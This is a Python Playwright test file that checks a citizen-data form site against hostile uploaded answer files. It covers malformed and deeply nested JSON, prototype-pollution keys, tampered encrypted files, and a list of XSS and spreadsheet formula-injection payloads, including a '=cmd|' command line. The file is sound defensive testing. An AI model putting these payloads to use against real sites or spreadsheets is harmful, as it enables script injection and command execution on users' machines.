"""Files of answers come from anywhere: what fits is taken, what does not is listed, and what is none is refused.

The cases of tests/cases/answers, which the commands read too, run through the scripts here.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from playwright.sync_api import Browser, Page, expect

from generator.library.slots import TABLE
from generator.render.script import assigned
from tests.browser.conftest import Visit
from tests.browser.test_fill_in import answer_everything, turn, visit
from tests.conftest import ROOT
from tests.test_answers import CASES, contract
from tests.test_scripts import SCRIPTS

README = (ROOT / "README.md").read_text("utf-8")

PAPER = "adult-consent"
SHEET = "sign-in-sheet"
LIST = "enabling-environment"
PASSWORD = "correct horse"  # noqa: S105  it locks nothing but the files of these tests

STATE = """() => JSON.stringify([
  Array.from(document.querySelectorAll('#fill input, #fill textarea'), input => [input.name,
    input.type === 'checkbox' || input.type === 'radio' ? input.checked : input.value]),
  document.querySelector('#fill-paper').textContent, document.title, location.href, history.length,
  sessionStorage.length + localStorage.length,
  document.querySelectorAll('main *').length - document.querySelectorAll('.status + ul *').length])"""
OPEN = """async contents => {
  const input = document.querySelector('#fill-file'), status = document.querySelector('.status'), said = [];
  for (const content of contents) {
    status.textContent = '';
    const given = new DataTransfer();
    given.items.add(new File([content], 'hostile.json', {type: 'application/json'}));
    input.files = given.files;
    const told = new Promise(done => {
      const watch = new MutationObserver(() => { if (status.textContent) { watch.disconnect(); done(); } });
      watch.observe(status, {childList: true, characterData: true, subtree: true});
    });
    input.dispatchEvent(new Event('change', {bubbles: true}));
    await told;
    said.push(status.textContent);
  }
  return said;
}"""
CLEAN = """() => [Object.prototype, Array.prototype, Function.prototype, Map.prototype, String.prototype].every(each =>
  !['polluted', 'schema', 'answers', 'organisation', 'rounds'].some(key => key in each))
  && window.ran === undefined && String({}) === '[object Object]' && {}.constructor === Object"""
HEADER = """form => ({schema: 'citizen-data-answers/1', [form.dataset.kind]: form.dataset.paper,
  version: form.dataset.version, edition: form.dataset.edition, conditions: {}, answers: {}})"""
SAID = "id => window.CitizenData.words(id).split('{')[0]"
# A file of answers might bring one of these; a form has none but the picture above its title.
BROUGHT = "main :is(img, script, iframe), main svg:not(.picture:has(+ h1), .profile)"
LOCK = "([file, password]) => window.CitizenData.answers.locked(file, password).then(made => JSON.stringify(made))"
NAMES = """control => Array.from(window.CitizenData.answers.questions(document.getElementById('fill')).values())
  .filter(question => question.control === control).map(question => question.name)
  .filter(name => !name.startsWith('condition:'))"""

EMPTY = """() => Array.from(document.querySelectorAll('#fill input, #fill textarea'))
  .every(input => input.type === 'checkbox' || input.type === 'radio' ? !input.checked : input.value === '')"""
TAKE = """([contract, text]) => {
  const app = window.CitizenData, reader = app.reader;
  try { return reader.take(contract, reader.read(text)); } catch (error) {
    if (!(error instanceof app.answers.Refusal)) { throw error; }
    return error.id === 'open-yaml' ? 'yaml' : 'refused';
  }
}"""

EVIL_KEYS = ("__proto__", "constructor", "prototype", "toString")
FITS_NOWHERE: list[Any] = [None, {}, [[]], [{}], [None], {"0": "x"}, {"length": 1}, {"toString": "x"}]
UNFIT: dict[str, list[Any]] = {
    "text": [True, ["x"], "x" * 100_001],
    "long": [False, ["x"], "x" * 100_001],
    "number": [True, ["1"]],
    "date": [True, 20270131, "31.1.2027", "2027-02-30", "0000-00-00"],
    "tick": ["yes", "true", 1, [True]],
    "one": [1, "nothing like it", ["yes"]],
    "some": [True, 1, "photo", ["nothing like it"], [["photo"]]],
}


def as_json(header: dict[str, Any], **changes: Any) -> str:
    """A whole file with parts of it replaced."""
    return json.dumps(header | changes)


Hostile = Callable[[dict[str, Any]], str]
NO_ANSWERS: dict[str, tuple[str, Hostile]] = {
    "empty": ("unreadable", lambda _: ""),
    "blank": ("unreadable", lambda _: " \n\t"),
    "no-json": ("unreadable", lambda _: "organisation: River Watch"),
    "half": ("unreadable", lambda file: as_json(file)[:-2]),
    "twice": ("unreadable", lambda file: as_json(file) * 2),
    "script": ("unreadable", lambda _: "window.ran = 1"),
    "markup": ("unreadable", lambda _: "<script>window.ran = 1</script>"),
    "binary": ("unreadable", lambda _: "PK\x03\x04\x00\x00\x00"),
    "null": ("unreadable", lambda _: "null"),
    "true": ("unreadable", lambda _: "true"),
    "number": ("unreadable", lambda _: "12"),
    "text": ("unreadable", lambda _: '"River Watch"'),
    "list": ("unreadable", lambda file: json.dumps([file])),
    "nothing-in-it": ("unreadable", lambda _: "{}"),
    "nested-lists": ("unreadable", lambda _: "[" * 100_000 + "]" * 100_000),
    "nested-objects": ("unreadable", lambda _: '{"a":' * 100_000 + "1" + "}" * 100_000),
    "nested-open": ("unreadable", lambda _: "[" * 100_000),
    "nested-answer": (
        "unreadable",
        lambda file: as_json(file).replace(
            '"answers": {}', '"answers": {"organisation": ' + "[" * 100_000 + "]" * 100_000 + "}"
        ),
    ),
    "nested-version": (
        "unreadable",
        lambda file: as_json(file, version=0).replace('"version": 0', f'"version": {"[" * 100_000}{"]" * 100_000}'),
    ),
    "other-schema": ("unreadable", lambda file: as_json(file, schema="citizen-data-answers/2")),
    "schema-list": ("unreadable", lambda file: as_json(file, schema=["citizen-data-answers/1"])),
    "schema-missing": ("unreadable", lambda file: json.dumps({key: file[key] for key in file if key != "schema"})),
    "other-paper": ("other", lambda file: as_json(file, document="oral-consent")),
    "other-kind": ("other", lambda file: json.dumps(file | {"checklist": "design", "document": None})),
    "paper-list": ("unreadable", lambda file: as_json(file, document=[PAPER])),
    "paper-object": ("unreadable", lambda file: as_json(file, document={"toString": PAPER})),
    "paper-proto": ("other", lambda file: as_json(file, document="__proto__")),
    "paper-markup": ("other", lambda file: as_json(file, document="<img src=x onerror=window.ran=1>")),
    "paper-endless": ("other", lambda file: as_json(file, document="x" * 1_000_000)),
    "version-object": ("unreadable", lambda file: as_json(file, version={"toString": 1, "valueOf": 1})),
    "edition-list": ("unreadable", lambda file: as_json(file, edition=["1.0"])),
    "stray-key": ("wrong", lambda file: as_json(file, answer={})),
    "conditions-null": ("unreadable", lambda file: as_json(file, conditions=None)),
    "conditions-list": ("unreadable", lambda file: as_json(file, conditions=["recording"])),
    "conditions-text": ("unreadable", lambda file: as_json(file, conditions="recording")),
    "answers-null": ("unreadable", lambda file: as_json(file, answers=None)),
    "answers-list": ("unreadable", lambda file: as_json(file, answers=["River Watch"])),
    "answers-text": ("unreadable", lambda file: as_json(file, answers="River Watch")),
    "answers-number": ("unreadable", lambda file: as_json(file, answers=0)),
    "all-inherited": ("unreadable", lambda file: f'{{"__proto__": {as_json(file)}}}'),
    "all-twice": ("unreadable", lambda file: as_json(file)[:-1] + ', "document": "oral-consent"}'),
    "locked-bare": ("locked", lambda _: json.dumps({"schema": "citizen-data-locked/1"})),
}
LISTED: dict[str, Hostile] = {
    "condition-unknown": lambda file: as_json(file, conditions={"recrding": True}),
    "condition-text": lambda file: as_json(file, conditions={"recording": "true"}),
    "condition-null": lambda file: as_json(file, conditions={"recording": None}),
    "condition-number": lambda file: as_json(file, conditions={"recording": 1}),
    "condition-as-answer": lambda file: as_json(file, answers={"condition:recording": True}),
    "answer-as-condition": lambda file: as_json(file, conditions={"organisation": True}),
    "unknown": lambda file: as_json(file, answers={"organization": "River Watch"}),
    "no-name": lambda file: as_json(file, answers={"": "x"}),
    "selector": lambda file: as_json(file, answers={'x"],[name="organisation': "x"}),
    "name-markup": lambda file: as_json(file, answers={"<img src=x onerror=window.ran=1>": "x"}),
    "name-endless": lambda file: as_json(file, answers={"x" * 100_000: "x"}),
    "last-of-many": lambda file: as_json(file, answers={"organisation": "River", "zzz": "x"}),
    "fixed-row": lambda file: as_json(file, answers={"understanding.61.x": "x"}),
}
LOCKED: dict[str, Any] = {
    "schema": "citizen-data-locked/1",
    "rounds": 1000,
    "salt": "AAAAAAAAAAAAAAAAAAAAAA==",
    "iv": "AAAAAAAAAAAAAAAA",
    "data": "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
}
LOCKED_WRONG: dict[str, tuple[str, dict[str, Any]]] = {
    "rubbish": ("password", {}),
    "no-rounds": ("unreadable", {"rounds": None}),
    "billion-rounds": ("unreadable", {"rounds": 10**9}),
    "endless-rounds": ("unreadable", {"rounds": 1e300}),
    "minus-rounds": ("unreadable", {"rounds": -1000}),
    "half-rounds": ("unreadable", {"rounds": 1000.5}),
    "text-rounds": ("unreadable", {"rounds": "1000"}),
    "list-rounds": ("unreadable", {"rounds": [1000]}),
    "salt-no-base64": ("unreadable", {"salt": "!!!"}),
    "iv-no-base64": ("unreadable", {"iv": "ä"}),
    "data-no-base64": ("unreadable", {"data": "=A"}),
    "iv-empty": ("password", {"iv": ""}),
    "data-empty": ("password", {"data": ""}),
    "salt-object": ("unreadable", {"salt": {}}),
    "data-list": ("unreadable", {"data": ["!"]}),
    "iv-to-string": ("unreadable", {"iv": {"toString": "x"}}),
    "other-method": ("password", {"method": "none"}),
}
ROWS: dict[str, str] = {
    "beyond": "people.61.first-name",
    "zero": "people.0.first-name",
    "minus": "people.-1.first-name",
    "zero-before": "people.02.first-name",
    "huge": "people.99999999999999999999.first-name",
    "power": "people.1e1.first-name",
    "half": "people.1.5.first-name",
    "arabic": "people.٢.first-name",
    "named": "people.first.first-name",
    "no-column": "people.2.nothing",
    "proto-column": "people.2.__proto__",
    "proto-table": "__proto__.2.first-name",
    "longer": "people.2.first-name.more",
    "line-break": "people.2.first-name\n",
}


def opened_with(form: Page, content: str | bytes, password: str = "") -> str:
    """What the page says after a file of answers was chosen."""
    form.evaluate("() => { document.querySelector('.status').textContent = ''; }")
    form.fill("#fill-password", password)
    made = content if isinstance(content, bytes) else content.encode()
    form.set_input_files("#fill-file", {"name": "hostile.json", "mimeType": "application/json", "buffer": made})
    expect(form.locator(".status")).not_to_be_empty()
    return form.locator(".status").inner_text()


def refused(form: Page, why: str, *contents: str, password: str = "") -> None:
    """Each file gets the message for its reason; form, preview, address, storage and prototypes are as before."""
    form.fill("#fill-password", password)
    before, wanted = form.evaluate(STATE), form.evaluate(SAID, f"open-{why}")
    said = form.evaluate(OPEN, contents)
    wrong = [(content[:200], words) for content, words in zip(contents, said, strict=True) if wanted not in words]
    assert wrong == []
    assert max(map(len, said)) < 300
    assert form.evaluate(STATE) == before
    assert form.evaluate(CLEAN)


def listed(form: Page, content: str) -> list[str]:
    """Opens a file of which not all fits; returns what is said of the rest, and nothing but words came of it."""
    assert opened_with(form, content) == form.evaluate("window.CitizenData.words('opened-part')")
    assert form.evaluate(CLEAN)
    assert form.locator(BROUGHT).count() == 0
    lines = form.locator(".status + ul > li").all_inner_texts()
    assert 0 < max(map(len, lines)) < 1500
    return lines


def header(form: Page) -> dict[str, Any]:
    """A file that fits the form and answers nothing."""
    made: dict[str, Any] = form.locator("#fill").evaluate(HEADER)
    return made


def _answered(browser: Browser, host: str, paper: str) -> Iterator[Page]:
    context = browser.new_context()
    page = context.new_page()
    visit(page, f"{host}en/fill/{paper}.html")
    answer_everything(page)
    # What follows from the answers must stand before anything is compared.
    expect(page.locator("#fill-paper")).to_contain_text("said 0" if paper == SHEET else "said ")
    page.locator(".tools .button--main").click()
    yield page
    context.close()


@pytest.fixture(scope="module")
def form(browser: Browser, host: str) -> Iterator[Page]:
    """A document with answers; every hostile file meets the same page."""
    yield from _answered(browser, host, PAPER)


@pytest.fixture(scope="module")
def sheet(browser: Browser, host: str) -> Iterator[Page]:
    """A document with a table that grows."""
    yield from _answered(browser, host, SHEET)


@pytest.fixture(scope="module")
def checklist(browser: Browser, host: str) -> Iterator[Page]:
    """A checklist with a scale."""
    yield from _answered(browser, host, LIST)


@pytest.fixture(scope="module")
def scripts(browser: Browser) -> Iterator[Page]:
    """A blank page with the scripts that read files, and the contract of the paper of the cases."""
    page = browser.new_page()
    page.set_content("<p></p>")
    table = (assigned("CitizenDataWords", {}) + assigned("CitizenDataAnswers", TABLE)).decode()
    for script in (table, *((SCRIPTS / f"{name}.js").read_text("utf-8") for name in ("answers", "reader"))):
        page.add_script_tag(content=script)
    yield page
    page.close()


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case['file']}-{case['about']}"[:80])
def test_a_case_is_taken_as_the_commands_take_it(scripts: Page, case: dict[str, Any]) -> None:
    """The same cases as in tests/test_answers.py; rare YAML is refused here with what to do instead."""
    taken = scripts.evaluate(TAKE, [contract(case["file"]).data, case["text"]])
    if case["want"] == "refused":
        assert taken in ("refused", "yaml")
    else:
        assert taken == case.get("site", case["want"])


@pytest.mark.parametrize("name", NO_ANSWERS)
def test_what_is_no_file_of_answers_for_this_paper_is_refused(form: Page, name: str) -> None:
    """Broken, deep, foreign: each gets its own reason."""
    why, make = NO_ANSWERS[name]
    refused(form, why, make(header(form)))


@pytest.mark.parametrize("name", LISTED)
def test_what_does_not_fit_is_listed(form: Page, name: str) -> None:
    """Under any name and in any part of the file; the rest is taken."""
    assert len(listed(form, LISTED[name](header(form)))) == 1
    fits = "River" if name == "last-of-many" else ""
    expect(form.locator("[name=organisation]")).to_have_value(fits)
    assert fits or form.evaluate(EMPTY)


def test_the_example_of_the_readme_opens(form: Page) -> None:
    """As it stands there, and as JSON; with a version before this one, it says what to read again."""
    example = README.partition("```yaml\n")[2].partition("```")[0]
    data = yaml.safe_load(example)
    for content in (example, json.dumps(data, default=str)):
        assert opened_with(form, content) == form.evaluate("window.CitizenData.words('opened')")
        expect(form.locator("[name=organisation]")).to_have_value("River Watch")
        expect(form.locator("[name=keep-until]")).to_have_value("2027-06-30")
        assert form.locator("[name='choice-take-part.take-part']").is_checked()
        assert form.locator("[name='condition:statistical-office'][value=no]").is_checked()
    gone = data["answers"] | {"long-gone": "a thing"}
    said = opened_with(form, json.dumps(data | {"version": "0.9.0", "answers": gone}, default=str))
    assert said.startswith(form.evaluate(SAID, "opened-version"))
    assert "0.9.0" in said
    expect(form.locator("[name=organisation]")).to_have_value("River Watch")
    lines = form.locator(".status + ul > li").all_inner_texts()
    assert "a thing" in lines[0]
    assert len(lines) > 10, "what is needed now and was not answered is named"


def test_plain_yaml_is_read_and_other_yaml_says_what_to_do(form: Page) -> None:
    refused(form, "yaml", f"schema: citizen-data-answers/1\ndocument: &paper {PAPER}\n")


def test_two_boxes_that_exclude_each_other_are_both_left_empty(form: Page) -> None:
    """From a file they are listed; ticked by hand, both are named by the check."""
    both = dict.fromkeys(["copy.copy-given", "copy.copy-unsafe"], True)
    assert len(listed(form, as_json(header(form), answers=both))) == 2
    assert form.evaluate(EMPTY)


def test_a_huge_file_is_refused_unread(form: Page, tmp_path: Path) -> None:
    """Fifty megabytes of answers."""
    before = form.evaluate(STATE)
    file = tmp_path / "huge.json"
    file.write_text(json.dumps(header(form) | {"answers": {"organisation": "x" * 50_000_000}}), encoding="utf-8")
    form.evaluate("() => { document.querySelector('.status').textContent = ''; }")
    form.set_input_files("#fill-file", file)
    expect(form.locator(".status")).to_have_text(form.evaluate("window.CitizenData.words('open-big')"))
    assert form.evaluate(STATE) == before


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "latin-1"])
def test_other_encodings_give_no_answers(form: Page, encoding: str) -> None:
    """A name in other letters is a name that nobody knows, and what cannot be read is no file of answers."""
    content = json.dumps(header(form) | {"answers": {"organisatión": "x"}}, ensure_ascii=False)
    said = opened_with(form, content.encode(encoding))
    assert said.startswith(form.evaluate(SAID, "opened-part" if encoding == "utf-16" else "open-unreadable"))
    assert encoding == "utf-32" or form.evaluate(EMPTY)


@pytest.mark.parametrize("control", UNFIT)
def test_a_value_of_the_wrong_kind_is_listed(form: Page, control: str) -> None:
    """Every kind of value in every kind of field that it is not for, beside an answer that fits."""
    names: list[str] = form.evaluate(NAMES, control)
    for value in (*FITS_NOWHERE, *UNFIT[control]):
        lines = listed(form, as_json(header(form), answers={"group-risks": "Fits", names[-1]: value}))
        assert len(lines) == 1, value
        expect(form.locator("[name=group-risks]")).to_have_value("Fits")


def test_a_wrong_value_in_a_checklist_is_listed(checklist: Page) -> None:
    """Levels of a scale are among those of the list; remarks are words."""
    item: str = checklist.evaluate("document.querySelector('.item').dataset.item")
    wrong = {item: "nothing like it", f"{item}.note": ["x"], f"{item}.date": "31.1.2027", f"{item}.owner": True}
    assert len(listed(checklist, as_json(header(checklist), answers=wrong))) == len(wrong)
    assert checklist.evaluate(EMPTY)


@pytest.mark.parametrize("key", EVIL_KEYS)
def test_names_of_prototypes_are_names_that_nobody_knows(form: Page, key: str) -> None:
    """At every level of the file; nothing that other scripts inherit is touched."""
    file = header(form)
    polluted = {"polluted": 1, "organisation": "x", "schema": file["schema"]}
    for value in ("x", True, polluted, [polluted]):
        for parts in ({"answers": {key: value}}, {"conditions": {key: value}}, {"answers": {"recording-kind": [key]}}):
            assert len(listed(form, as_json(file, **parts))) == 1
            assert form.evaluate(EMPTY)
    refused(form, "unreadable", json.dumps({key: file | polluted}), as_json(file, document={key: PAPER}))
    refused(form, "unreadable", json.dumps({"schema": LOCKED["schema"], key: LOCKED}), password=PASSWORD)
    refused(form, "other", as_json(file, document=key))
    refused(form, "unreadable", as_json(file, version={key: file["version"]}))


@pytest.mark.parametrize("name", ROWS)
def test_rows_that_cannot_be_are_listed(sheet: Page, name: str) -> None:
    """Rows are counted from one to the most that there may be, and are written in one way."""
    rows = sheet.locator("#fill .copy").count()
    assert len(listed(sheet, as_json(header(sheet), answers={ROWS[name]: "x"}))) == 1
    assert sheet.evaluate(EMPTY)
    assert sheet.locator("#fill .copy").count() == rows


@pytest.mark.parametrize("name", LOCKED_WRONG)
def test_locked_files_with_rubbish_are_refused(form: Page, name: str) -> None:
    """With parts missing or wrong, and with a number of rounds that would stop the page."""
    why, changes = LOCKED_WRONG[name]
    refused(form, why, json.dumps(LOCKED | changes), password=PASSWORD)


def test_locked_files_without_a_part_are_refused(form: Page) -> None:
    """Each of the four that are needed."""
    parts = ("rounds", "salt", "iv", "data")
    made = [json.dumps({key: value for key, value in LOCKED.items() if key != part}) for part in parts]
    refused(form, "unreadable", *made, password=PASSWORD)


@pytest.mark.parametrize("inside", ["other", "schema", "locked", "list"])
def test_what_was_locked_is_trusted_no_more(form: Page, inside: str) -> None:
    """The right password opens the file; what is in it has to fit as any other."""
    file = header(form)
    contents: dict[str, tuple[str, Any]] = {
        "other": ("other", file | {"document": "oral-consent"}),
        "schema": ("unreadable", file | {"schema": "x"}),
        "locked": ("unreadable", LOCKED),
        "list": ("unreadable", [file]),
    }
    why, content = contents[inside]
    made = form.evaluate(LOCK, [content, PASSWORD])
    refused(form, why, made, password=PASSWORD)
    refused(form, "password", made, password="wrong horse")  # noqa: S106  that is the point
    refused(form, "locked", made)


def test_a_locked_file_that_was_changed_is_refused(form: Page) -> None:
    """One letter of the locked words, of the salt or of the start is enough."""
    made = json.loads(form.evaluate(LOCK, [header(form), PASSWORD]))
    for part in ("data", "salt", "iv"):
        first = "B" if made[part][0] == "A" else "A"
        refused(form, "password", json.dumps(made | {part: first + made[part][1:]}), password=PASSWORD)
    refused(form, "password", json.dumps(made | {"rounds": made["rounds"] - 1}), password=PASSWORD)


PAYLOADS = {
    "markup": '<img src=x onerror="window.ran=1"><svg onload=window.ran=1>',
    "script": "</textarea></script><script>window.ran=1</script>",
    "attribute": '" onfocus="window.ran=1" autofocus x=\'',
    "address": "javascript:window.ran=1",
    "template": "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} {question} {most}",
    "formula": '=HYPERLINK("https://example.org/?"&A1)',
    "command": "=cmd|' /C calc'!A0",
    "entity": "&lt;img src=x onerror=window.ran=1&gt; &amp;",
    "replace": "$& $` $' $1 \\1",
    "number": "people.1e9",
    "direction": "\u202eWatch\u2066",
}


def test_what_a_file_could_bring_would_be_seen(browser: Browser, host: str) -> None:
    """So that the tests here can fail."""
    page = browser.new_page()
    visit(page, f"{host}en/fill/{PAPER}.html")
    assert page.locator(BROUGHT).count() == 0
    for place in ("#fill", "#fill-paper", ".status", "h1"):
        for markup in ("<img>", "<svg></svg>", '<svg class="picture"></svg>', "<iframe></iframe>", "<script></script>"):
            page.locator(place).first.evaluate("(part, markup) => part.insertAdjacentHTML('beforeend', markup)", markup)
    assert page.locator(BROUGHT).count() == 20
    page.close()


@pytest.fixture(scope="module")
def opened(browser: Browser, host: str) -> Iterator[Visit]:
    """A form that takes one payload after the other, and what it has asked for since the first."""
    context = browser.new_context()
    visited = Visit.watch(context)
    visit(visited.page, f"{host}fr/fill/{SHEET}.html")
    visited.asked.clear()
    yield visited
    context.close()


@pytest.mark.parametrize("name", PAYLOADS)
def test_payloads_are_words_wherever_they_are_shown(opened: Visit, name: str) -> None:
    """In fields, in a row that is added, the preview beside another language, the check list and error messages."""
    page, payload = opened.page, PAYLOADS[name]
    turn(page, "tools")
    texts = [each for each in page.evaluate(NAMES, "text") if not each.startswith("people.")]
    answers = dict.fromkeys([*texts, "people.60.first-name"], payload)
    assert len(texts) > 2
    made = json.dumps(header(page) | {"answers": answers})
    page.set_input_files("#fill-file", {"name": "x.json", "mimeType": "application/json", "buffer": made.encode()})
    for field in [*texts, "people.60.first-name"]:
        expect(page.locator(f"[name='{field}']")).to_have_value(payload)
        assert page.locator(f"#fill-paper [data-field='{field}']").first.text_content() == payload
    page.locator(".tools .button--main").click()
    assert page.locator(BROUGHT).count() == 0
    assert page.locator("main :is(link, style, base, object, form form)").count() == 0
    assert page.locator("main [onerror], main [onload], main [onfocus], main [autofocus]").count() == 0
    assert page.locator("main a[href^='javascript']").count() == 0
    assert page.evaluate(CLEAN)
    # Only the script that reads files came, once there was one to read.
    assert [address.rpartition("/")[2] for address in opened.asked] == ["reader.js"]


def test_a_checklist_shows_payloads_as_words(browser: Browser, host: str) -> None:
    """Remarks stand in the preview, and who does it in the list of what is open."""
    context = browser.new_context()
    page, payload = context.new_page(), PAYLOADS["markup"]
    visit(page, f"{host}en/fill/{LIST}.html")
    item = page.evaluate("document.querySelector('.item').dataset.item")
    answers = dict.fromkeys([f"{item}.{name}" for name in ("note", "evidence", "owner", "not-applicable")], payload)
    open_item = page.evaluate("document.querySelectorAll('.item')[1].dataset.item")
    opened_with(page, json.dumps(header(page) | {"answers": answers | {f"{open_item}.owner": payload}}))
    expect(page.locator("#fill-paper [data-remark]")).to_have_count(5)
    assert all(payload in words for words in page.locator("#fill-paper [data-remark]").all_text_contents())
    assert payload in page.locator(".counts li").first.inner_text()
    assert page.locator(BROUGHT).count() == 0
    assert page.evaluate(CLEAN)
    context.close()


def test_a_file_that_fits_is_opened(form: Page) -> None:
    """The look-out is able to tell: after all that, the same form takes a good file, whole, and empties the rest."""
    file = header(form)
    answers = {"organisation": "River Watch", "recording-kind": [], "people-number": 12, "location-detail": "exact"}
    said = opened_with(form, json.dumps(file | {"answers": answers}))
    assert said == form.evaluate("window.CitizenData.words('opened')")
    expect(form.locator("[name=organisation]")).to_have_value("River Watch")
    expect(form.locator("[name=purpose]")).to_have_value("")
    assert form.locator("[name=location-detail][value=exact]").is_checked()
    assert form.locator("#fill-paper [data-field=purpose]").first.text_content() == ""


def test_the_same_file_can_be_opened_again(sheet: Page, tmp_path: Path) -> None:
    """A refused file that was mended under the same name is read anew."""
    file = tmp_path / "answers.json"
    file.write_text("{}", encoding="utf-8")
    sheet.set_input_files("#fill-file", file)
    expect(sheet.locator(".status")).to_have_class("status status--problem")
    file.write_text(json.dumps(header(sheet)), encoding="utf-8")
    sheet.set_input_files("#fill-file", file)
    expect(sheet.locator(".status")).to_have_class("status")
    expect(sheet.locator("[name=session]")).to_have_value("")
